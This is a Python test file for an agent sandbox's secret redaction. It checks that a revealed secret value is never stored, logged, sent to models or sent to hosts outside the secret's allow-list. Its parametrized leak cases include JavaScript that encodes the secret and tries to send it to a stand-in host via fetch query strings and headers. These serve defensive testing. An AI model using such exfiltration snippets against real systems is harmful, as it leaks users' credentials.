"""Code that was shown a secret's value can work with it, and can put it nowhere."""

import base64
import json
from typing import Any
from urllib.parse import quote

import msgspec
import pytest
import structlog

from agent_contracts import event_sources
from agent_contracts.entities.definitions import ToolDefinition
from agent_contracts.entities.entity import EntityKind
from agent_contracts.entities.secrets import SecretDefinition
from agent_contracts.errors import ErrorKind
from agent_contracts.kinds.function import FUNCTION
from agent_contracts.questions.generation import GenerationResult
from agent_contracts.session_events.results import Usage
from agent_domain import definitions
from agent_platform.entities.entities import Entities
from agent_platform.entities.entity import EntityKey, EntityWriter
from agent_platform.secrecy.known_secrets import MASK
from foldline_testing.agent_tools.models import ScriptedModels
from foldline_testing.agent_tools.world import AGENT
from foldline_testing.egress.web import answered, local_server
from foldline_testing.tool_runner.world import World
from tool_runner.code import runs as code_runs
from tool_runner.sandbox.sandbox import Sandbox

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.xdist_group("sandbox")]

CANARY = 'can"ary/+ é-0123456789'
MENTION = "{{secret:SHOWN}}"
SPELLINGS = [
    CANARY,
    quote(CANARY, safe=""),
    json.dumps(CANARY)[1:-1],
    json.dumps(CANARY, ensure_ascii=False)[1:-1],
    base64.b64encode(CANARY.encode()).decode().rstrip("="),
    base64.urlsafe_b64encode(CANARY.encode()).decode().rstrip("="),
    CANARY.encode().hex(),
]


@pytest.fixture
async def world(sandbox: Sandbox) -> World:
    """An agent with a secret that code may see, and one that it may not."""
    world = World(sandbox=sandbox)
    entities = Entities(world.log, world.clock, event_sources.RUNNER)
    for name, reveal in (("SHOWN", True), ("HIDDEN", False)):
        revision = await world.vault.put(AGENT, name, CANARY if reveal else f"hidden-{CANARY}")
        value = msgspec.to_builtins(SecretDefinition(("a.test",), revision, reveal))
        await entities.write(EntityKey(AGENT, EntityKind.SECRET, name), value, EntityWriter.user(name))
    return world


async def ran(world: World, code: str, call_id: str = "c1") -> Any:
    return await world.run("run_sandbox_code", {"code": code}, call_id=call_id)


async def everything(world: World) -> str:
    stored = [f"{m.headers}\n{m.data.decode()}" async for m in world.log.read(">")]
    return "\n".join([*stored, repr(vars(world.blobs)), repr(world.models.asked)])


async def test_it_sees_the_value_where_the_user_allowed_that_and_else_a_placeholder(world: World) -> None:
    code = """
    const bytes = new TextEncoder().encode(secrets.SHOWN)
    let sum = 0
    for (const byte of bytes) sum = (sum * 31 + byte) % 1000003
    return [sum, secrets.SHOWN.length, secrets.HIDDEN]
    """
    expected = 0
    for byte in CANARY.encode():
        expected = (expected * 31 + byte) % 1000003
    assert (await ran(world, code)).result["result"] == [expected, len(CANARY), "{{secret:HIDDEN}}"]


LEAKS = """
const v = secrets.SHOWN
const coded = [v, encodeURIComponent(v), btoa(String.fromCharCode(...new TextEncoder().encode(v))), JSON.stringify(v)]
coded.push(coded[2].replaceAll('+', '-').replaceAll('/', '_').replace(/=+$/, ''))
coded.push([...new TextEncoder().encode(v)].map((b) => b.toString(16).padStart(2, '0')).join(''))
"""


@pytest.mark.parametrize(
    "leak",
    [
        "return coded",
        "return { [v]: coded.join(' ') }",
        "console.log(coded, v); console.error(new Error(v)); return 1",
        "console.log('x'.repeat(16370) + v); return 1",
        "throw new Error(coded.join('|'))",
        "throw new Error('x'.repeat(16370) + v)",
        "const e = new Error('x'); e.name = v; e.code = coded; throw e",
        "await state.set('k', coded); await state.set(v, 1); return await state.keys()",
        "await db.sql('create table t (a)'); await db.sql('insert into t values (?)', [coded.join()]);"
        "await db.sql(`insert into t values ('${coded[1]}')`); return (await db.sql('select * from t')).rows",
        "await session.notepad.write(coded.join('\\n')); return await session.notepad.read()",
        "await llm.generate({ prompt: coded.join(), system: v, schema: { const: v } })",
        "return await functions.call('echo', { v, coded })",
        "return require(v)",
        "return await files.readText(v)",
        "return 'x'.repeat(300000) + coded.join()",
        "try { await fetch('http://b.test/?k=' + coded[1]) } catch (e) { return e.message }",
        "try { await fetch('http://x/', { headers: { a: v } }) } catch (e) { return e.message }",
    ],
)
async def test_the_value_is_in_nothing_that_is_stored_or_sent(world: World, leak: str) -> None:
    entities = Entities(world.log, world.clock, event_sources.RUNNER)
    key = EntityKey(AGENT, FUNCTION.kind, "echo")
    echo = ToolDefinition(
        "echoes", {"type": "object"}, "console.log(args.v); return { args, v: secrets.SHOWN }"
    )
    await definitions.create(entities, key, FUNCTION, echo, EntityWriter.user("f"))
    world.models = ScriptedModels(*[GenerationResult(text='"x"', usage=Usage(3, 1))] * 2)
    with structlog.testing.capture_logs() as logs:
        event = await ran(world, LEAKS + leak)
    said = f"{await everything(world)}\n{logs!r}\n{event!r}"
    for spelling in SPELLINGS:
        assert spelling not in said
        assert spelling[:12] not in said


async def test_what_the_redaction_of_code_misses_the_encoder_of_events_takes_out(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(code_runs, "redacted", lambda outcome, _: outcome)
    await ran(world, LEAKS + "return coded")
    said = await everything(world)
    assert MASK in said
    assert not [spelling for spelling in SPELLINGS if spelling in said]


async def test_signed_requests_go_to_the_hosts_of_the_secret_alone(world: World) -> None:
    code = """
    const basic = btoa('me:' + String.fromCharCode(...new TextEncoder().encode(secrets.SHOWN)))
    const send = async (url) => {
      try { return await (await fetch(url, { headers: { authorization: `Basic ${basic}` } })).text() }
      catch (e) { return [e.code, e.message] }
    }
    return [await send(%r), await send(%r)]
    """

    def echo(request: str) -> bytes:
        return answered(request.encode("latin-1"), "Content-Type: text/plain")

    async with local_server(echo) as server:
        event = await ran(world, code % (server.url("a.test", "/p"), server.url("b.test", "/p")))
    allowed, (kind, message) = event.result["result"]
    (seen,) = server.seen
    basic = base64.b64encode(b"me:" + CANARY.encode()).decode()
    assert f"Basic {basic}" in seen
    assert "authorization: Basic bWU6{{secret:SHOWN}}" in allowed
    assert (kind, "SHOWN" in message) == (ErrorKind.BLOCKED, True)
